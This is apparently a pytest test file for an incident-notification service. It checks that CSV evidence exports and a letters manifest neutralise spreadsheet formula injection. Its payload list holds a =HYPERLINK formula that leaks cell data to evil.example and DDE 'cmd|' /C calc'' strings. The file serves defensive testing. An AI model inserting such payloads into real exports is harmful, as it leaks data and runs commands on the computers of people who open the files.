"""Issue 23, item 7: formula injection. Text from outside (person ids from a live directory,
provider error texts, reasons) lands in the evidence pack's CSVs and the print house's letters
manifest; a spreadsheet opening them must see text, never `=HYPERLINK(…)` or `+cmd|…`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from channels.base import ContactPointData, RenderedMessage
from channels.letter import MANIFEST, LetterChannel
from channels.safe_files import csv_cell, write_csv
from incident.adapters.tables import (
    AffectedPerson,
    DeliveryAttempt,
    DeliveryEvent,
    Incident,
    Notice,
    Person,
)
from incident.service.evidence import export_evidence

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_starting_like_a_formula_is_written_as_text(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["p1", "2026-05-01T09:00:00+00:00", "a=b", "", None, 3])
def test_ordinary_cells_are_written_as_they_are(value: object) -> None:
    assert csv_cell(value) == ("" if value is None else str(value))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_one_writer_escapes_header_and_rows() -> None:
    out = io.StringIO()
    write_csv(out, ["=h"], [[p] for p in PAYLOADS])
    cells = _cells(out.getvalue())
    assert cells == ["'=h", *("'" + p for p in PAYLOADS)]


INC = "INC-CSV1"
AT = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)


def _seed(engine: Engine) -> None:
    with Session(engine) as s:
        s.add(Incident(id=INC, title="t", severity="high", status="enriched", aware_at=AT))
        for i in range(len(PAYLOADS)):
            s.add(Person(id=f"@p{i}", name="X", country="NL"))
        s.commit()
        for i, payload in enumerate(PAYLOADS):
            pid = f"@p{i}"  # a live directory's id, within the id character set
            s.add(AffectedPerson(incident_id=INC, person_id=pid, jurisdiction="NL",
                                 recipient_id=pid))  # fmt: skip
            s.add(Notice(incident_id=INC, addressee_id=pid, person_id=pid, recipient_id=pid,
                         status="unreachable", reason=payload))  # fmt: skip
            key = f"{INC}:{pid}:email:1"
            s.add(DeliveryAttempt(
                idempotency_key=key, incident_id=INC, addressee_id=pid, person_id=pid,
                channel="email", notice_version=1, status="failed", message_id=f"m{i}",
                worker_id="w", claimed_at=AT, error=payload,
            ))  # fmt: skip
            at = AT + timedelta(minutes=i)
            s.add(DeliveryEvent(idempotency_key=key, status="failed", source=payload, at=at,
                                detail={"reason": payload}))  # fmt: skip
        s.commit()


def test_the_evidence_pack_holds_no_cell_a_spreadsheet_would_run(
    engine: Engine, tmp_path: Path
) -> None:
    _seed(engine)
    pack = tmp_path / "pack"
    export_evidence(engine, INC, pack, public_root=tmp_path / "p", reports_root=tmp_path / "r")
    texts = {p.name: p.read_text(encoding="utf-8") for p in pack.glob("*.csv")}
    assert {"notices.csv", "events.csv"} <= set(texts)
    seen = 0
    for name, text in texts.items():
        for cell in _cells(text):
            assert not cell.startswith(FORMULA_START), (name, cell)
            seen += cell.startswith("'")
    assert seen >= 2 * len(PAYLOADS)  # the reasons and errors are there, as text


async def test_the_letters_manifest_holds_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    channel = LetterChannel(drop_folder=tmp_path, sender_country="DE", clock=lambda: AT)
    fields = {"street": "Unter den Linden 1", "city": "Berlin", "postal_code": "10117",
              "country": "DE"}  # fmt: skip
    point = ContactPointData("postal", "\n".join(fields.values()), fields, "DE")
    for i in range(2):
        key = f"{INC}:-cmd{i}:letter:1"  # the person part of the key reaches the manifest
        msg = RenderedMessage(recipient=point.value, locale="en", subject="Notice",
                              body_text="Dear Anna,\n\nWe were breached.\n", idempotency_key=key,
                              message_id=f"{key}@example.org", contact=point)  # fmt: skip
        await channel.deliver(msg)
    await channel.aclose()
    [manifest] = tmp_path.glob(f"*/{MANIFEST}")
    cells = _cells(manifest.read_text(encoding="utf-8"))
    assert "'-cmd0" in cells and "'-cmd1" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]
